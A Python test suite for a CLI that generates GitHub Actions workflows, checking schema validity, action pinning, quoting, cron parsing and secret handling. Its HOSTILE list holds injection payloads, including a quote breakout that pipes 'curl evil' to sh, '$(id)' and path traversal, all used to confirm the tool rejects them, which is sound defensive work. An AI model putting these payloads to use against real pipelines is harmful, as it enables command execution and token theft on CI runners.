"""`init --github`: what is written passes GitHub's schema and zizmor, calls what there is to call, and nothing hostile gets into it."""

import io
import json
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from guard.cli.main import main
from guard.errors import UsageError
from guard.rehearsal import sample
from guard.scaffold import called, cron, rendering, surroundings, wanted
from guard.scaffold.writing import NotWritten, write_all

OURS = Path(__file__).parents[2] / ".github"
HASH = "0123456789abcdef0123456789abcdef01234567"
USES = f"acme/release-guard@{HASH}"
PROVIDER = "projects/1/locations/global/workloadIdentityPools/github/providers/repo"
ACCOUNT = "guard@example.iam.gserviceaccount.com"
TWO = "\n".join(
    f'[[extension]]\nid = "{letter * 32}"\npublisher = "p"\npath = "{name}"\nname = "{name}"'
    for letter, name in (("a", "left"), ("b", "right"))
)
COMBINATIONS = {
    "by default": [],
    "with everything": [
        *(
            "--artifact",
            "the package",
            "--package",
            "out/e.zip",
            "--mode",
            "act",
            "--schedule",
            "7 */2 * * *",
            "--watch-schedule",
            "9 * * * *",
        ),
        *("--environment", "people on call", "--state", "none", "--on", "tag", "--tags", "v[0-9]*", "--provider", PROVIDER),
        *("--service-account", ACCOUNT, "--lines-secret", "LINES"),
    ],
    "without publishing": ["--no-publish", "--watch-schedule", "none"],
    "a tag, and the cache all the same": ["--on", "tag", "--store-secret", "KEY"],
    "both schedules the same": ["--schedule", "11 * * * *", "--watch-schedule", "11 * * * *"],
    "words that YAML takes for others": ["--artifact", "true", "--package", "1e3", "--environment", "null"],
}


@pytest.fixture
def here(tmp_path, monkeypatch):
    """A git repository with an extension in a folder, and nobody at the terminal."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr("sys.stdin", io.StringIO())
    monkeypatch.setattr(surroundings, "installed_from", lambda: None)
    subprocess.run(["git", "init", "--quiet"], check=True)
    subprocess.run(["git", "remote", "add", "origin", "https://user:gho_a-secret-token@github.com/team/shelf.git"], check=True)
    sample.build(sample.BASE, sample.BASE_VERSION).unpack(tmp_path / "ext")
    return tmp_path


def init(capsys, *arguments, uses=USES):
    code = main(["init", "--github", *(["--uses", uses] if uses else []), *arguments])
    seen = capsys.readouterr()
    return code, seen.out, seen.err


def written(root) -> dict[str, Any]:
    return {path.name: yaml.safe_load(path.read_text(encoding="utf-8")) for path in sorted((root / ".github" / "workflows").iterdir())}


def calls(workflows):
    for name, workflow in workflows.items():
        for job in workflow["jobs"].values():
            if "uses" in job:
                yield name, workflow, job, called_by(job)


def called_by(job):
    return next(one for one in called.ALL if f"/{one.file}@" in job["uses"])


def found_by_zizmor(root):
    asked = subprocess.run(
        [str(Path(sys.executable).parent / "zizmor"), "--offline", "--persona", "pedantic", "--quiet", "--format", "json", str(root)],
        capture_output=True,
        text=True,
        check=False,
    )
    return sorted(found["ident"] for found in json.loads(asked.stdout))


def is_valid(root):
    files = [str(path) for path in (root / ".github" / "workflows").iterdir()]
    program = str(Path(sys.executable).parent / "check-jsonschema")
    seen = subprocess.run([program, "--builtin-schema", "vendor.github-workflows", *files], capture_output=True, text=True, check=False)
    return seen.returncode == 0, seen.stdout


@pytest.mark.parametrize("options", COMBINATIONS.values(), ids=COMBINATIONS)
def test_what_is_written_has_no_finding(here, capsys, options):
    code, _, err = init(capsys, "ext", *options)
    assert code == 0, err
    assert found_by_zizmor(here) == []
    valid, words = is_valid(here)
    assert valid, words
    check_calls(here)


def test_what_is_written_for_several_extensions_asks_which(here, capsys):
    (here / "release-guard.toml").write_text(TWO)
    assert init(capsys)[0] == 0
    assert found_by_zizmor(here) == []
    assert is_valid(here)[0]
    check_calls(here)
    found = written(here)
    for name in ("release-gate.yml", "release-rollback.yml"):
        assert found[name][True]["workflow_dispatch"]["inputs"]["item"]["options"] == ["left", "right"]
    assert found["release-canary.yml"]["jobs"]["canary"]["strategy"]["matrix"]["item"] == ["left", "right"]
    packed = [(step["if"], step["working-directory"]) for step in found["release-gate.yml"]["jobs"]["build"]["steps"] if "run" in step]
    assert packed == [("inputs.item == 'left'", "left"), ("inputs.item == 'right'", "right")]
    assert "a database is better" in init(capsys, "--force")[2]


def check_calls(root):
    """Each call gives what the called workflow declares, grants what it asks for and nothing else, and is in another group."""
    found = list(calls(written(root)))
    assert {one.file for *_, one in found} == {"post-release-gate.yml", "canary.yml", "rollback.yml"}
    for name, workflow, job, one in found:
        declared = yaml.safe_load((OURS / "workflows" / one.file).read_text(encoding="utf-8"))[True]["workflow_call"]
        assert set(job["with"]) <= set(declared["inputs"]), name
        assert {key for key, value in declared["inputs"].items() if value.get("required")} <= set(job["with"])
        assert set(job["secrets"]) <= set(declared["secrets"])
        assert all(re.fullmatch(r"\$\{\{ secrets\.[A-Z0-9_]+ \}\}", value) for value in job["secrets"].values())
        assert job["permissions"] == called.PERMISSIONS
        assert job["with"].get("state") in {"cache", "none"}
        assert ("workload-identity-provider" in job["with"]) != ("store-credentials" in job["secrets"])
        assert workflow["permissions"] == {}
        assert not workflow["concurrency"]["group"].startswith(called.GROUP)
        assert not workflow["concurrency"]["cancel-in-progress"]
        assert all(isinstance(value, str) for value in job["with"].values()), "a boolean is an expression here, and all else is text"


def test_the_table_of_what_is_called_says_what_the_workflows_say():
    for one in called.ALL:
        workflow = yaml.safe_load((OURS / "workflows" / one.file).read_text(encoding="utf-8"))
        declared = workflow[True]["workflow_call"]
        assert {name: value["type"] for name, value in declared["inputs"].items()} == dict(one.inputs)
        assert {name for name, value in declared["inputs"].items() if value.get("required")} == set(one.needs)
        assert set(declared["secrets"]) == set(called.SECRETS)
        assert workflow["concurrency"]["group"].startswith(called.GROUP)
        assert all(job["permissions"] == called.PERMISSIONS for job in workflow["jobs"].values())
    environments = {job["environment"] for one in called.ALL for job in jobs_of(one).values() if "environment" in job}
    assert environments == {"${{ inputs.approval-environment }}"}
    defaults = {inputs_of(one)["approval-environment"]["default"] for one in called.ALL if "approval-environment" in one.inputs}
    assert defaults == {called.APPROVAL_ENVIRONMENT}
    action = yaml.safe_load((OURS / "actions" / "release-guard" / "action.yml").read_text(encoding="utf-8"))
    assert action["inputs"]["state-folder"]["default"] == called.STATE_FOLDER


def jobs_of(one):
    return yaml.safe_load((OURS / "workflows" / one.file).read_text(encoding="utf-8"))["jobs"]


def inputs_of(one):
    return yaml.safe_load((OURS / "workflows" / one.file).read_text(encoding="utf-8"))[True]["workflow_call"]["inputs"]


def test_everything_of_others_is_pinned_as_our_own_workflows_pin_it(here, capsys):
    assert init(capsys, "ext")[0] == 0
    ours = set(re.findall(r"uses: (\S+@\S+ # v\S+)", "\n".join(path.read_text(encoding="utf-8") for path in OURS.rglob("*.yml"))))
    text = "\n".join(path.read_text(encoding="utf-8") for path in (here / ".github").rglob("*.yml"))
    used = re.findall(r"uses: (.+)", text)
    others = {line for line in used if not line.startswith("acme/")}
    assert others
    assert others <= ours
    assert all(line.endswith(f"@{HASH}") for line in used if line.startswith("acme/"))


def test_a_tag_is_written_and_said_to_be_no_commit(here, capsys):
    code, out, err = init(capsys, "ext", uses="acme/release-guard@v1.2")
    assert code == 0
    assert "v1.2 is no full commit hash" in err
    assert "gh api repos/acme/release-guard/commits/v1.2 --jq .sha" in out
    assert set(found_by_zizmor(here)) == {"unpinned-uses"}
    assert "name the commit by its full hash" in (here / ".github/workflows/release-rollback.yml").read_text()


HOSTILE = [
    "a\nb",
    'x"; curl evil | sh; "',
    "${{ github.token }}",
    "a: b\n  permissions: write-all",
    "$(id)",
    "`id`",
    "' || true || '",
    "<< wanted.ref >>",
    "<% raw %>",
    "a #b",
    "\u202eevil",
    "--force",
    "../../etc",
    "x" * 500,
]
OPTIONS = (
    *("--artifact", "--package", "--tags", "--schedule", "--watch-schedule", "--environment", "--working-directory"),
    *("--provider", "--store-secret", "--lines-secret", "--uses"),
)


@pytest.mark.parametrize("option", OPTIONS)
def test_nothing_hostile_gets_into_a_file(here, capsys, option):
    """It is refused with 2, and nothing is written."""
    for value in HOSTILE:
        code = main(["init", "--github", "ext", "--uses", USES, f"{option}={value}"])
        assert code == 2, (option, value, capsys.readouterr())
        assert not (here / ".github").exists()
        assert not (here / "release-guard.toml").exists()


@pytest.mark.parametrize("value", HOSTILE)
def test_a_value_that_was_not_looked_at_is_still_no_more_than_text(value):
    """The second barrier: what would become an expression or another line is refused, and all else is one YAML text."""
    try:
        line = rendering.quoted(value)
    except UsageError:
        assert "${{" in value or not value.isprintable()
        return
    assert yaml.safe_load(f"key: {line}\nnext: 1") == {"key": value, "next": 1}


@pytest.mark.parametrize(
    "text", ["true", "No", "y", "null", "1e3", "0x1", "12:30", "a b", "~", "a: b", "é", "v1.2", "a/b@c", "-x", "1_000", "=", "Off"]
)
def test_a_quoted_value_is_read_as_the_same_text(text):
    assert yaml.safe_load(f"key: {rendering.quoted(text)}") == {"key": text}


@pytest.mark.parametrize(
    ("text", "is_one"),
    [
        ("17 * * * *", True),
        ("*/5 * * * *", True),
        ("0 3 * * MON-FRI", True),
        ("5,35 9-17 1 jan,jul *", True),
        ("20/15 * * * *", True),
        ("* * * * *", False),
        ("*/4 * * * *", False),
        ("58,2 * * * *", False),
        ("60 * * * *", False),
        ("5 24 * * *", False),
        ("5 * 0 * *", False),
        ("5 * * 13 *", False),
        ("5 * * * 7", False),
        ("5 * * *", False),
        ("@daily", False),
        ("9-5 * * * *", False),
        ("*/0 * * * *", False),
        ("٣ * * * *", False),
        ("5 * * * * *", False),
    ],
)
def test_schedules_that_github_takes(text, is_one):
    try:
        assert cron.schedule(text) == text.upper()
    except UsageError:
        assert not is_one
    else:
        assert is_one


@pytest.mark.parametrize(
    "text",
    [
        "acme",
        "acme/guard",
        "acme/guard@",
        "acme@v1",
        "a/b/c@v1",
        "acme/guard@a..b",
        "acme/guard@v1 ",
        "acme/guard@v 1",
        "-a/b@v1",
        "acme/guard@0123abc",
        "a/b@v1.lock",
        "a/b@x//y",
    ],
)
def test_what_is_called_is_a_repository_at_a_commit(text):
    if text != text.strip():
        assert wanted.uses(text) == ("acme/guard", "v1")
        return
    with pytest.raises(UsageError):
        wanted.uses(text)


def test_a_shortened_hash_is_refused_and_a_capital_one_is_the_same():
    with pytest.raises(UsageError, match="all 40 letters"):
        wanted.uses(f"acme/guard@{HASH[:12]}")
    assert wanted.uses(f"acme/guard@{HASH.upper()}") == ("acme/guard", HASH)


def test_a_configuration_that_is_there_is_kept_and_only_the_workflows_are_added(here, capsys):
    text = f'# mine\n[[extension]]\nid = "{"a" * 32}"\npublisher = "p"\npath = "ext"\n[tickets]\nrepository = "team/shelf"\n'
    (here / "release-guard.toml").write_text(text)
    code, out, _ = init(capsys, "--force")
    assert code == 0
    assert "kept as it is: release-guard.toml" in out
    assert (here / "release-guard.toml").read_text() == text
    assert "TO FILL IN" not in out
    assert "GITHUB_TOKEN (a token that may write issues in team/shelf)" in out


def test_what_is_to_be_filled_in_is_said_until_it_is(here, capsys):
    assert "1. Fill in release-guard.toml" in init(capsys, "ext")[1]
    assert "1. Fill in release-guard.toml" in init(capsys, "--force")[1]
    (here / "release-guard.toml").unlink()
    assert "Fill in" not in init(capsys, "ext", "--force", "--id", "a" * 32, "--publisher", "p")[1]


def test_no_workflow_is_replaced_without_force_and_then_nothing_at_all_is_written(here, capsys):
    (here / ".github/workflows").mkdir(parents=True)
    mine = here / ".github/workflows/release-rollback.yml"
    mine.write_text("mine")
    code, _, err = init(capsys, "ext")
    assert code == 2
    assert ".github/workflows/release-rollback.yml is there already; nothing was written" in err
    assert [path.name for path in mine.parent.iterdir()] == ["release-rollback.yml"]
    assert not (here / "release-guard.toml").exists()
    assert init(capsys, "ext", "--force")[0] == 0
    assert mine.read_text() != "mine"


def test_a_file_where_the_folder_must_be_is_said_before_anything_is_written(here, capsys):
    (here / ".github").write_text("")
    code, _, err = init(capsys, "ext")
    assert code == 4
    assert "is no folder" in err
    assert not (here / "release-guard.toml").exists()


def test_a_disk_that_takes_no_more_leaves_whole_files_and_names_them(here, monkeypatch):
    import guard.scaffold.writing as module

    def full(path):
        if path.name == "second":
            raise OSError(28, "No space left on device")
        return whole(path)

    whole = module.written
    monkeypatch.setattr(module, "written", full)
    with pytest.raises(NotWritten, match=r"second cannot be written: No space left on device; written before: .*first"):
        write_all({here / "first": "1", here / "second": "2"})
    assert (here / "first").read_text() == "1"


def test_a_configuration_below_the_root_makes_the_working_directory(here, capsys):
    (here / "sub").mkdir()
    code, _, err = init(capsys, "ext", "--config", "sub/mine.toml")
    assert code == 0, err
    for *_, job, _one in calls(written(here)):
        assert (job["with"]["working-directory"], job["with"]["config"]) == ("sub", "mine.toml")
    assert 'path = "../ext"' in (here / "sub/mine.toml").read_text()
    assert main(["status", "--config", "sub/mine.toml", "--json"]) == 0, "what was written loads"


@pytest.mark.parametrize(
    ("options", "words"),
    [
        (["--no-publish", "--artifact", "a"], "--no-publish"),
        (["--no-publish", "--on", "tag"], "a tag publishes nothing"),
        (["--on", "dispatch", "--tags", "v*"], "--on tag"),
        (["--service-account", ACCOUNT], "goes with --provider"),
        (["--provider", PROVIDER], "service account"),
        (["--provider", PROVIDER, "--service-account", ACCOUNT, "--store-secret", "KEY"], "instead of a key"),
        (["--item", "left"], "which is not there yet"),
        (["--store-secret", "GITHUB_THING"], "not GITHUB_"),
        (["--working-directory", "ext"], "is not below"),
    ],
)
def test_what_does_not_go_together_is_said(here, capsys, options, words):
    code, _, err = init(capsys, "ext", *options)
    assert code == 2
    assert words in " ".join(err.split())
    assert not (here / ".github").exists()


def test_the_options_of_workflows_go_with_github_alone(here, capsys):
    assert main(["init", "ext", "--item", "x"]) == 2
    assert "--item is about workflows: it goes with --github" in capsys.readouterr().err
    assert not (here / "release-guard.toml").exists()


def test_where_nobody_says_where_the_guard_is_it_is_asked_for_or_known_from_the_installation(here, capsys, monkeypatch):
    code, _, err = init(capsys, "ext", uses=None)
    assert (code, "--uses" in err) == (2, True)
    monkeypatch.setattr(surroundings, "installed_from", lambda: USES)
    assert init(capsys, "ext", uses=None)[0] == 0
    assert all(USES.partition("@")[0] in job["uses"] for *_, job, _one in calls(written(here)))


def test_the_next_steps_name_this_repository_and_no_secret_of_its_address(here, capsys):
    code, out, err = init(capsys, "ext", "--provider", PROVIDER, "--service-account", ACCOUNT, "--state", "none", "--on", "tag")
    assert code == 0
    flat = " ".join(out.split())
    for words in (
        "attribute.repository/team/shelf",
        "gh secret set RELEASE_GUARD < lines.env",
        "RELEASE_GUARD_DATABASE_URL (the address of the database)",
        "environments/release-guard-rollback/deployment-branch-policies",
        "'name=v*' -f type=tag",
        "git add .github/workflows/release-gate.yml",
        "GH_TOKEN=$(gh auth token) release-guard doctor --github",
    ):
        assert words in flat, words
    assert re.findall(r"^(\d+)\.", out, re.MULTILINE) == [str(number) for number in range(1, 8)]
    assert "gho_" not in out + err


def test_with_json_there_is_one_document_with_all_of_it(here, capsys):
    code, out, _ = init(capsys, "ext", "--json")
    document = json.loads(out)
    assert code == 0
    assert document["written"] == [f".github/workflows/release-{name}.yml" for name in ("gate", "canary", "rollback")] + [
        "release-guard.toml"
    ]
    assert {"words", "commands"} == set(document["next"][0])


def test_several_extensions_and_a_tag_need_one_name(here, capsys):
    (here / "release-guard.toml").write_text(TWO)
    assert init(capsys, "--on", "tag")[0] == 2
    assert init(capsys, "--on", "tag", "--item", "right")[0] == 0
    assert {job["with"]["item"] for *_, job, _one in calls(written(here))} == {"right"}


def test_the_package_that_the_template_packs_is_one_that_the_store_takes(here, capsys, tmp_path_factory):
    """The step is run as it is written, by bash, in a checkout."""
    from webstore.package import Package

    assert init(capsys, "ext")[0] == 0
    (here / "ext/.eslintrc").write_text("{}")
    subprocess.run(["git", "add", "-A"], check=True)
    subprocess.run(["git", "-c", "user.name=a", "-c", "user.email=a@example.com", "commit", "--quiet", "-m", "x"], check=True)
    (step,) = (step for step in written(here)["release-gate.yml"]["jobs"]["build"]["steps"] if "run" in step)
    temporary = tmp_path_factory.mktemp("runner")
    path = {"PATH": "/usr/local/bin:/usr/bin:/bin"}
    environment = {**path, **step["env"], "RUNNER_TEMP": str(temporary)}
    subprocess.run(["bash", "-c", step["run"]], cwd=here / step["working-directory"], env=environment, check=True)
    package = Package.read(temporary / "package" / "extension.zip")
    assert (package.name, str(package.version)) == (sample_name(here), str(sample.BASE_VERSION))
    assert not [name for name in package.files if name.startswith(".")]


def sample_name(here):
    from webstore.package import Package

    return Package.read(here / "ext").name


@pytest.mark.parametrize(
    ("address", "name"),
    [
        ("https://github.com/team/shelf.git", "team/shelf"),
        ("https://user:token@github.com/team/shelf", "team/shelf"),
        ("git@github.com:team/shelf.git", "team/shelf"),
        ("ssh://git@ssh.github.com:443/team/shelf.git", "team/shelf"),
        ("https://elsewhere.example/team/shelf.git", None),
        ("https://github.com.evil.example/team/shelf", None),
        ("https://github.com/team", None),
        ("/srv/git/shelf.git", None),
        ("https://github.com/team/shelf;id", None),
        ("", None),
    ],
)
def test_what_git_calls_origin_is_read_for_its_name_alone(address, name):
    assert surroundings.full_name(address) == name


@pytest.mark.parametrize(
    ("recorded", "found"),
    [
        ({"url": "https://github.com/acme/guard.git", "vcs_info": {"vcs": "git", "commit_id": HASH}}, f"acme/guard@{HASH}"),
        ({"url": "https://elsewhere.example/acme/guard.git", "vcs_info": {"vcs": "git", "commit_id": HASH}}, None),
        ({"url": "file:///srv/guard", "dir_info": {"editable": True}}, None),
        ({"url": "https://github.com/acme/guard", "vcs_info": {"commit_id": "main"}}, None),
        ({"url": 5, "vcs_info": {"commit_id": 5}}, None),
        ([], None),
        (None, None),
    ],
)
def test_where_the_guard_was_installed_from_is_read_from_what_pip_has_recorded(monkeypatch, recorded, found):
    class Installed:
        def read_text(self, name):
            assert name == "direct_url.json"
            return None if recorded is None else json.dumps(recorded)

    monkeypatch.setattr(surroundings.importlib.metadata, "distribution", lambda _name: Installed())
    assert surroundings.installed_from() == found
